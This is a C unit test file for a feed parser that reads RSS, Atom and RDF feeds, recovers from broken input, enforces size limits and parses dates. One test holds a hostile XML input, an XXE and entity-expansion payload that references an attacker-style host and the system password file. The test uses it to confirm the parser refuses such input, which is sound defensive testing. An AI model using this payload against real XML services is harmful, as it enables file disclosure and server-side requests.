/* test_ingest_feed.c: feeds of each dialect, sound, broken and hostile. */
#include "arena_fixture.h"

#include <stdlib.h>

#include "base/limits.h"
#include "ingest/feed.h"
#include "ingest/webdate.h"

struct bytes {
  rap_stream stream;
  rap_str s;
  size_t at;
  /* A generated feed: `head`, then `n` times `item`. */
  rap_str item;
  size_t n, item_at;
};

static rap_status read_bytes(rap_stream *stream, char *out, size_t room, size_t *n, rap_error *err) {
  struct bytes *b = (struct bytes *)stream;
  (void)err;
  while (*n < room) {
    if (b->at == b->s.n && b->n == 0) break;
    rap_str *from = b->at < b->s.n ? &b->s : &b->item;
    size_t *at = b->at < b->s.n ? &b->at : &b->item_at;
    rap_str part = rap_str_sub(*from, *at, *at + room - *n);
    if (part.n) memcpy(out + *n, part.p, part.n);
    *n += part.n;
    *at += part.n;
    if (from == &b->item && *at == b->item.n) {
      *at = 0;
      b->n--;
    }
  }
  return RAP_OK;
}

static void add_field(rap_buf *out, const char *name, rap_str value) {
  if (value.n) rap_buf_printf(out, " %s=%.*s", name, RAP_FMT(value));
}

/* One line a document: id and the fields that it has; one a failure. Line breaks of texts show as '/'. */
static void read_feed(struct bytes *bytes, rap_buf *out) {
  bytes->stream.read = read_bytes;
  rap_feed_options options = {.stream = &bytes->stream, .name = RAP_STR("press"), .url = RAP_STR("http://h.example/feed.xml")};
  rap_feed *feed = NULL;
  rap_error err = {0};
  rap_status st = rap_feed_new(&options, &feed, &err);
  assert_int_equal(st, RAP_OK);
  for (;;) {
    rap_raw_document raw = {0};
    uint64_t line = 0;
    st = rap_feed_next(feed, arena, &raw, &line, &err);
    if (st == RAP_NOT_FOUND) break;
    if (st == RAP_OK) {
      rap_buf_printf(out, "%.*s", RAP_FMT(raw.id));
      add_field(out, "title", raw.title);
      add_field(out, "text", raw.text);
      for (size_t i = 0; i < out->n; i++)
        if (out->p[i] == '\n' && i + 1 < out->n && out->p[i + 1] != '=' && raw.text.n && i > out->n - raw.text.n) out->p[i] = '/';
      add_field(out, "layout", raw.layout);
      add_field(out, "url", raw.url);
      add_field(out, "author", raw.author);
      add_field(out, "source", raw.source);
      add_field(out, "language", raw.language);
      for (size_t i = 0; i < raw.n_dates; i++) rap_buf_printf(out, " %.*s:%.*s", RAP_FMT(raw.dates[i].name), RAP_FMT(raw.dates[i].text));
      add_field(out, "metadata", raw.metadata);
      for (size_t i = 0; i < raw.warnings.n; i++) add_field(out, "WARNING", raw.warnings.items[i]);
    } else {
      rap_buf_printf(out, "%s %s", rap_status_name(st), err.text);
    }
    rap_buf_putc(out, '\n');
    rap_error_clear(&err);
  }
  rap_feed_free(feed);
}

static void assert_feed(const char *xml, const char *expected) {
  struct bytes bytes = {.s = rap_str_of(xml)};
  rap_buf out = {0};
  read_feed(&bytes, &out);
  if (!rap_str_is(rap_buf_str(&out), expected)) fail_msg("got:\n%s\nexpected:\n%s", out.p ? out.p : "", expected);
  rap_buf_clear(&out);
}

static void reads_rss2(void **state) {
  (void)state;
  assert_feed(
      "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" "
      "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>Office of the Press</title><link>http://h.example/</link>"
      "<language>en-in</language><image><title>Logo</title><link>http://no.example/</link></image>"
      "<item><title>Ministers &amp;amp; secretaries meet</title><link>/2023/7</link><guid isPermaLink=\"false\">r-7</guid>"
      "<pubDate>Sun, 08 Jan 2023 02:51:00 +0530</pubDate><dc:creator>A. Writer</dc:creator><category>Water</category>"
      "<description>Short.</description><content:encoded><![CDATA[<h2>Day one</h2><p>The ministers met&nbsp;in Shimla.</p>"
      "<ul><li>Water<li>Roads</ul>]]></content:encoded></item>"
      "<item><title>A headline</title><guid>http://h.example/8</guid></item>"
      "<item><description>Only a text &lt; here</description><author>w@h.example (B. Writer)</author></item>"
      "</channel></rss>",
      "r-7 title=Ministers & secretaries meet text=Day one/The ministers met\xC2\xA0in Shimla./Water/Roads layout=2paa url=http://h.example/2023/7 "
      "author=A. Writer source=Office of the Press language=en pubDate:2023-01-08T02:51 metadata={\"categories\": [\"Water\"]}\n"
      "http://h.example/8 text=A headline url=http://h.example/8 source=Office of the Press language=en WARNING=feed: a headline alone, without text\n"
      "press#3 text=Only a text < here author=B. Writer source=Office of the Press language=en\n");
}

static void reads_atom(void **state) {
  (void)state;
  assert_feed(
      "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"http://a.example/x/\" xml:lang=\"hi-IN\"><title type=\"html\">The &lt;b&gt;Bureau&lt;/b&gt;</title>"
      "<author><name>C. Writer</name><email>c@a.example</email></author>"
      "<entry xml:lang=\"en\"><id>tag:a,1</id><title type=\"text\">A &lt;b> c</title><link rel=\"self\" href=\"no\"/><link href=\"1.html\"/>"
      "<published>2023-01-08T10:00:00Z</published><updated>2023-01-09T11:30:00+05:30</updated>"
      "<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>One <i>two</i></p><p>A &lt; B</p></div></content></entry>"
      "<entry><id>2</id><summary>S</summary><updated>2023-02-01</updated><source><id>s</id><title>Elsewhere</title></source></entry></feed>",
      "tag:a,1 title=A <b> c text=One two/A < B layout=pp url=http://a.example/x/1.html author=C. Writer source=The Bureau language=en "
      "published:2023-01-08T10:00 metadata={\"updated\": \"2023-01-09T11:30\"}\n"
      "2 text=S author=C. Writer source=Elsewhere language=hi updated:2023-02-01\n");
  assert_feed("<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"><entry><content type=\"text/html\" mode=\"base64\">PHA+SGk8L3A+</content>"
              "<issued>2004-01-02T03:04:05Z</issued></entry></feed>",
              "press#1 text=Hi layout=p issued:2004-01-02T03:04\n");
}

static void reads_rdf_and_old_rss(void **state) {
  (void)state;
  assert_feed("<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\" "
              "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel rdf:about=\"http://r.example/\"><title>R</title></channel>"
              "<item rdf:about=\"http://r.example/1\"><title>T</title><link>http://r.example/one</link><description>D</description>"
              "<dc:date>2003-12-31T10:14:55Z</dc:date></item></rdf:RDF>",
              "http://r.example/1 title=T text=D url=http://r.example/one source=R date:2003-12-31T10:14\n");
  assert_feed("<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">"
              "<rss version=\"0.91\"><channel><title>O</title><item><title>T&eacute;</title><description>D</description></item></channel></rss>",
              "press#1 title=T\xC3\xA9 text=D source=O\n");
}

static void recovers_broken_feeds(void **state) {
  (void)state;
  assert_feed("<rss><channel><item><title>A & B</title><description>x <b>y<br>z</description>\n<item><title>C</title><description>cut",
              "press#1 title=A & B text=x y/z layout=pp WARNING=feed: line 1: '&' that begins no known entity (and 2 more)\n"
              "press#2 title=C text=cut WARNING=feed: line 2: the file ends inside an element\n");
  assert_feed("<rss><channel><title>Nothing</title></channel></rss>", "RAP_PASSED_OVER a feed without entries\n");
  assert_feed("<rss><channel><item><title>T</title></item>\n<item><author>x</author></item></channel>",
              "press#1 text=T WARNING=feed: a headline alone, without text\nRAP_ERR_INPUT line 2: entry 2 has neither title nor text\n"
              "RAP_ERR_INPUT line 2: behind the last entry: the file ends inside an element\n");
  assert_feed("<rss><channel><item><itunes:summary>S</itunes:summary><other:title>no</other:title></item></channel></rss>", "press#1 text=S\n");
}

static void withstands_bombs(void **state) {
  (void)state;
  assert_feed("<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY % p SYSTEM \"http://evil.example/\">%p;"
              "<!ENTITY f SYSTEM \"file:///etc/passwd\">]><rss><channel><item><title>&b; &f;</title></item></channel></rss>",
              "press#1 text=&b; &f; WARNING=feed: line 1: '&' that begins no known entity (and 1 more) WARNING=feed: a headline alone, "
              "without text\n");
  /* An entry of more than a document may have is passed over; what follows it is read. */
  struct bytes large = {.s = RAP_STR("<rss><item><description>"), .item = RAP_STR("0123456789abcdef"), .n = RAP_MAX_DOCUMENT_BYTES / 16 + 4096};
  rap_buf out = {0};
  read_feed(&large, &out);
  assert_string_equal(out.p, "RAP_ERR_LIMIT line 1: an entry of more than 67108864 bytes: passed over\n"
                             "RAP_ERR_INPUT line 1: behind the last entry: the file ends inside an element\n");
  rap_buf_reset(&out);
  struct bytes talkative = {
      .s = RAP_STR("<rss><channel>"), .item = RAP_STR("<link xml:lang='en-GB-oxendict-x-0123456789'>a</link>"), .n = RAP_MAX_DOCUMENT_BYTES / 24};
  read_feed(&talkative, &out);
  assert_string_equal(out.p, "RAP_ERR_LIMIT line 1: a feed that says more than 67108864 bytes of itself: not read on\n");
  rap_buf_clear(&out);
}

/* However many entries, one is in memory. */
static void streams_many_entries(void **state) {
  (void)state;
  struct bytes many = {.stream = {.read = read_bytes},
                       .s = RAP_STR("<rss><channel>"),
                       .item = RAP_STR("<item><title>T</title><description>Text</description><br></item>\n"),
                       .n = 100000};
  rap_feed_options options = {.stream = &many.stream, .name = RAP_STR("many")};
  rap_feed *feed = NULL;
  rap_error err = {0};
  rap_arena *own = rap_arena_new();
  assert_int_equal(rap_feed_new(&options, &feed, &err), RAP_OK);
  size_t n = 0;
  rap_status st;
  for (;; n++) {
    rap_raw_document raw = {0};
    uint64_t line;
    rap_arena_reset(own);
    st = rap_feed_next(feed, own, &raw, &line, &err);
    if (st != RAP_OK) break;
    assert_int_equal(line, n + 1);
    assert_true(rap_arena_used(own) < 4096);
  }
  assert_int_equal(n, 100000);
  assert_int_equal(st, RAP_ERR_INPUT); /* its end is missing */
  rap_feed_free(feed);
  rap_arena_free(own);
}

static void reads_dates(void **state) {
  (void)state;
  static const char *const dates[][2] = {
      {"Thu, 01 Jan 2004 19:48:21 GMT", "2004-01-01T19:48"},
      {"01 Jan 04 19:48 EST", "2004-01-01T19:48"},
      {"Thursday, 01-Jan-99 19:48:21 GMT", "1999-01-01T19:48"},
      {"Thu Jan  1 19:48:21 2004", "2004-01-01T19:48"},
      {"Thu, 1 January 2004", "2004-01-01"},
      {"Jan 1, 2004 7:48", "2004-01-01T07:48"},
      {"Sun, 08 Jan 2023 02:51:00 +0530", "2023-01-08T02:51"},
      {"Sun, 08 Jan 2023 02:51:00 -0530 (IST)", "2023-01-08T02:51"},
      {"2003-12-31T10:14:55Z", "2003-12-31T10:14"},
      {"2003-12-31 10:14:55 +0000", "2003-12-31T10:14"},
      {"2003-12", "2003-12"},
      {"20031231", "2003-12-31"},
      {"2003-12-31T10:14-08:00", "2003-12-31T10:14"},
      {"Wed, 31 Feb 2004 10:00:00 GMT", "Wed, 31 Feb 2004 10:00:00 GMT"},
      {"yesterday", "yesterday"},
      {"", ""},
      {"Thu, 01 Jan 2004 25:70:00 GMT", "2004-01-01"},
  };
  for (size_t i = 0; i < sizeof dates / sizeof dates[0]; i++) {
    rap_str text = rap_webdate_text(arena, rap_str_of(dates[i][0]));
    if (!rap_str_is(text, dates[i][1])) fail_msg("%s: got %.*s, expected %s", dates[i][0], RAP_FMT(text), dates[i][1]);
  }
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(reads_rss2),
      cmocka_unit_test(reads_atom),
      cmocka_unit_test(reads_rdf_and_old_rss),
      cmocka_unit_test(recovers_broken_feeds),
      cmocka_unit_test(withstands_bombs),
      cmocka_unit_test(streams_many_entries),
      cmocka_unit_test(reads_dates),
  };
  return cmocka_run_group_tests(tests, arena_setup, arena_teardown);
}
